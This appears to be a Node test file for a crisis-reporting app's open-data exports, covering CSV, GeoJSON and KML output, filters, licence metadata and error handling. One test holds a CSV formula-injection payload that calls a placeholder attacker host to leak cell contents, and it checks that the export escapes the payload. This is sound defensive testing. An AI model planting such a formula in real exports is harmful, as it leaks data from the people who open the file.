import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { App } from '../../src/app.js';
import { buildTestApp } from '../helpers/app.js';
import { forEachDatabase } from '../helpers/databases.js';
import { csvRecords, descendants, parseCsv, parseXml } from '../helpers/formats.js';
import {
  assertProblem,
  createCategory,
  insertPublishedReports,
  publishedReport,
  setStatus,
  submitReport,
} from '../helpers/reports.js';

interface FeatureCollectionJson {
  type: string;
  license: { id: string; name: string; url: string };
  features: {
    type: string;
    id: string;
    geometry: { type: string; coordinates: number[] } | null;
    properties: Record<string, unknown> & { title: string };
  }[];
}

const ccBy = { id: 'CC-BY-4.0', url: 'https://creativecommons.org/licenses/by/4.0/' };
const kibera = { lat: -1.3133, lon: 36.7876, name: 'Kibera, Nairobi' };
const mombasa = { lat: -4.0435, lon: 39.6682, name: 'Mombasa Old Town' };

async function exported(app: App, path: string) {
  const response = await app.inject({ url: `/api/v1/exports/${path}` });
  assert.equal(response.statusCode, 200, response.body);
  return response;
}

async function csvTitles(app: App, query = ''): Promise<string[]> {
  const response = await exported(app, `reports.csv${query ? `?${query}` : ''}`);
  return csvRecords(response.body).map((record) => record.title ?? '');
}

async function geojson(app: App, query = ''): Promise<FeatureCollectionJson> {
  return (await exported(app, `reports.geojson${query ? `?${query}` : ''}`)).json<FeatureCollectionJson>();
}

forEachDatabase('open data exports', (open) => {
  test('the CSV export holds published reports only', async () => {
    const { app, as } = await buildTestApp(await open());
    const volunteer = await as('volunteer');
    await publishedReport(app, volunteer, { title: 'Road washed away' });
    const rejected = await submitReport(app, { title: 'Spam' });
    await setStatus(app, volunteer, rejected.id, 'rejected');
    await submitReport(app, { title: 'Not yet checked' });
    assert.deepEqual(await csvTitles(app), ['Road washed away']);
  });

  test('the GeoJSON export holds published reports only', async () => {
    const { app, as } = await buildTestApp(await open());
    await publishedReport(app, await as('volunteer'), { title: 'Road washed away', location: kibera });
    await submitReport(app, { title: 'Not yet checked', location: kibera });
    const titles = (await geojson(app)).features.map((feature) => feature.properties.title);
    assert.deepEqual(titles, ['Road washed away']);
  });

  test('the KML export holds published reports only', async () => {
    const { app, as } = await buildTestApp(await open());
    await publishedReport(app, await as('volunteer'), { title: 'Road washed away', location: kibera });
    await submitReport(app, { title: 'Not yet checked', location: kibera });
    const kml = parseXml((await exported(app, 'reports.kml')).body);
    const names = descendants(kml, 'Placemark').map((placemark) => descendants(placemark, 'name')[0]?.text);
    assert.deepEqual(names, ['Road washed away']);
  });

  test('exports take the bbox filter of the list', async () => {
    const { app, as } = await buildTestApp(await open());
    const volunteer = await as('volunteer');
    await publishedReport(app, volunteer, { title: 'In Kibera', location: kibera });
    await publishedReport(app, volunteer, { title: 'In Mombasa', location: mombasa });
    assert.deepEqual(await csvTitles(app, 'bbox=36.6,-1.45,37.1,-1.15'), ['In Kibera']);
  });

  test('exports take the category filter of the list, subcategories included', async () => {
    const { app, as } = await buildTestApp(await open());
    const [coordinator, volunteer] = [await as('coordinator'), await as('volunteer')];
    const health = await createCategory(app, coordinator, { name: 'Health' });
    const cholera = await createCategory(app, coordinator, { name: 'Cholera', parent_id: health.id });
    const roads = await createCategory(app, coordinator, { name: 'Roads' });
    await publishedReport(app, volunteer, { title: 'Cholera cases', categories: [cholera.id] });
    await publishedReport(app, volunteer, { title: 'Bridge down', categories: [roads.id] });
    const features = (await geojson(app, `category=${health.id}`)).features;
    assert.deepEqual(
      features.map((feature) => [feature.properties.title, feature.properties.category_names]),
      [['Cholera cases', ['Cholera']]],
    );
  });

  test('exports take the since, until and q filters of the list', async () => {
    const { app, as } = await buildTestApp(await open());
    const volunteer = await as('volunteer');
    await publishedReport(app, volunteer, {
      title: 'Flooding in January',
      occurred_at: '2026-01-10T08:00:00Z',
    });
    await publishedReport(app, volunteer, {
      title: 'Flooding in March',
      occurred_at: '2026-03-10T08:00:00Z',
    });
    await publishedReport(app, volunteer, { title: 'Fire in March', occurred_at: '2026-03-11T08:00:00Z' });
    assert.deepEqual(await csvTitles(app, 'since=2026-02-01&until=2026-04-01&q=flood'), [
      'Flooding in March',
    ]);
  });

  test('every export format names the licence in a Link header', async () => {
    const { app } = await buildTestApp(await open());
    for (const format of ['csv', 'geojson', 'kml']) {
      const response = await exported(app, `reports.${format}`);
      assert.equal(response.headers.link, `<${ccBy.url}>; rel="license"`, format);
    }
  });

  test('each export is served with its media type as a download', async () => {
    const { app } = await buildTestApp(await open());
    const expected = {
      csv: 'text/csv; charset=utf-8',
      geojson: 'application/geo+json; charset=utf-8',
      kml: 'application/vnd.google-earth.kml+xml; charset=utf-8',
    };
    for (const [format, type] of Object.entries(expected)) {
      const response = await exported(app, `reports.${format}`);
      assert.equal(response.headers['content-type'], type);
      assert.match(
        String(response.headers['content-disposition']),
        new RegExp(`^attachment; filename="reports-.+\\.${format}"$`),
      );
    }
  });

  test('the GeoJSON collection carries a license member', async () => {
    const { app } = await buildTestApp(await open());
    const collection = await geojson(app);
    assert.deepEqual(collection.license, {
      id: ccBy.id,
      name: 'Creative Commons Attribution 4.0 International',
      url: ccBy.url,
    });
  });

  test('every CSV row carries the licence in a license column', async () => {
    const { app, as } = await buildTestApp(await open());
    const volunteer = await as('volunteer');
    await publishedReport(app, volunteer, { title: 'Road washed away' });
    await publishedReport(app, volunteer, { title: 'Bridge down' });
    const records = csvRecords((await exported(app, 'reports.csv')).body);
    assert.deepEqual(
      records.map((record) => record.license),
      [ccBy.id, ccBy.id],
    );
  });

  test('the KML document links the licence and describes it', async () => {
    const { app } = await buildTestApp(await open());
    const kml = parseXml((await exported(app, 'reports.kml')).body);
    const [document] = descendants(kml, 'Document');
    assert.ok(document);
    const link = document.children.find((child) => child.name === 'atom:link');
    assert.deepEqual(link?.attributes, { rel: 'license', href: ccBy.url });
    const description = document.children.find((child) => child.name === 'description');
    assert.match(description?.text ?? '', /Creative Commons Attribution 4\.0 International/);
  });

  test('the CSV export with hxl=true has an HXL hashtag row under the header', async () => {
    const { app, as } = await buildTestApp(await open());
    await publishedReport(app, await as('volunteer'), { title: 'Road washed away' });
    const [header, hashtags, first] = parseCsv((await exported(app, 'reports.csv?hxl=true')).body);
    assert.equal(hashtags?.length, header?.length);
    assert.ok(
      hashtags?.every((tag) => tag.startsWith('#')),
      `not all HXL tags: ${hashtags}`,
    );
    assert.equal(hashtags?.[header?.indexOf('latitude') ?? -1], '#geo +lat');
    assert.equal(first?.[header?.indexOf('title') ?? -1], 'Road washed away');
  });

  test('the CSV export without hxl has no HXL row', async () => {
    const { app, as } = await buildTestApp(await open());
    await publishedReport(app, await as('volunteer'), { title: 'Road washed away' });
    const rows = parseCsv((await exported(app, 'reports.csv')).body);
    assert.equal(rows.length, 2);
    assert.ok(!rows.some((row) => row[0]?.startsWith('#')));
  });

  test('the GeoJSON export is an RFC 7946 FeatureCollection with [longitude, latitude] points', async () => {
    const { app, as } = await buildTestApp(await open());
    const volunteer = await as('volunteer');
    await publishedReport(app, volunteer, { title: 'In Kibera', location: kibera });
    await publishedReport(app, volunteer, { title: 'Somewhere', location_name: 'Unknown village' });
    const collection = await geojson(app);
    assert.equal(collection.type, 'FeatureCollection');
    assert.equal('crs' in collection, false);
    const [unlocated, located] = collection.features;
    for (const feature of collection.features) {
      assert.equal(feature.type, 'Feature');
      assert.equal(typeof feature.properties, 'object');
      assert.ok(['string', 'number'].includes(typeof feature.id));
    }
    assert.deepEqual(located?.geometry, { type: 'Point', coordinates: [kibera.lon, kibera.lat] });
    assert.equal(unlocated?.geometry, null);
  });

  test('the KML export is well-formed XML with one Placemark per located report', async () => {
    const { app, as } = await buildTestApp(await open());
    const volunteer = await as('volunteer');
    await publishedReport(app, volunteer, {
      title: 'Water & sanitation <urgent>',
      description: 'Latrines "overflowing" at the school\'s gate',
      location: kibera,
    });
    await publishedReport(app, volunteer, { title: 'In Mombasa', location: mombasa });
    await publishedReport(app, volunteer, { title: 'Somewhere', location_name: 'Unknown village' });
    const kml = parseXml((await exported(app, 'reports.kml')).body);
    assert.equal(kml.name, 'kml');
    const placemarks = descendants(kml, 'Placemark').map((placemark) => ({
      name: descendants(placemark, 'name')[0]?.text,
      coordinates: descendants(placemark, 'coordinates')[0]?.text,
    }));
    assert.deepEqual(placemarks, [
      { name: 'In Mombasa', coordinates: `${mombasa.lon},${mombasa.lat}` },
      { name: 'Water & sanitation <urgent>', coordinates: `${kibera.lon},${kibera.lat}` },
    ]);
  });

  test('CSV fields with commas, quotes and line breaks survive a round trip', async () => {
    const { app, as } = await buildTestApp(await open());
    const description = 'Three houses, one school.\nResidents say "the river rose in an hour".\r\nSend help';
    await publishedReport(app, await as('volunteer'), {
      title: 'Flood, "worst in years"',
      description,
      location_name: 'Kisumu, Nyalenda',
    });
    const [record] = csvRecords((await exported(app, 'reports.csv')).body);
    assert.deepEqual(
      [record?.title, record?.description, record?.location_name],
      ['Flood, "worst in years"', description, 'Kisumu, Nyalenda'],
    );
  });

  test('a CSV cell that a spreadsheet would run as a formula is kept as text', async () => {
    const { app, as } = await buildTestApp(await open());
    await publishedReport(app, await as('volunteer'), {
      title: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
      author_name: '@SUM(1+1)',
    });
    const [record] = csvRecords((await exported(app, 'reports.csv')).body);
    assert.equal(record?.title, '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")');
    assert.equal(record?.author_name, "'@SUM(1+1)");
  });

  test('a bad bbox is refused as problem+json before anything is streamed', async () => {
    const { app } = await buildTestApp(await open());
    const response = await app.inject({ url: '/api/v1/exports/reports.geojson?bbox=north-of-here' });
    assertProblem(response, 400, 'validation_failed', 'query/bbox');
    assert.equal(response.headers['content-disposition'], undefined);
  });

  test('an unknown category is refused as problem+json before anything is streamed', async () => {
    const { app } = await buildTestApp(await open());
    const response = await app.inject({ url: '/api/v1/exports/reports.csv?category=no-such-category' });
    assertProblem(response, 422, 'unknown_category', 'query/category');
  });

  test('asking an export for pending reports is refused with 403 forbidden', async () => {
    const { app } = await buildTestApp(await open());
    const response = await app.inject({ url: '/api/v1/exports/reports.kml?status=pending' });
    assertProblem(response, 403, 'forbidden', 'query/status');
  });

  test('an unknown export format is 400 with the path parameter named', async () => {
    const { app } = await buildTestApp(await open());
    const response = await app.inject({ url: '/api/v1/exports/reports.xlsx' });
    assertProblem(response, 400, 'validation_failed', 'path/format');
  });

  test('an export larger than one batch holds every report exactly once', async () => {
    const db = await open();
    const { app } = await buildTestApp(db);
    await insertPublishedReports(db, 2500);
    const collection = await geojson(app);
    const ids = collection.features.map((feature) => feature.id);
    assert.equal(ids.length, 2500);
    assert.equal(new Set(ids).size, 2500);
  });

  test('a CSV export larger than one batch has one row per report', async () => {
    const db = await open();
    const { app } = await buildTestApp(db);
    await insertPublishedReports(db, 2001);
    const titles = new Set(await csvTitles(app));
    assert.equal(titles.size, 2001);
    assert.ok(titles.has('Report 1') && titles.has('Report 1000') && titles.has('Report 2001'));
  });
});
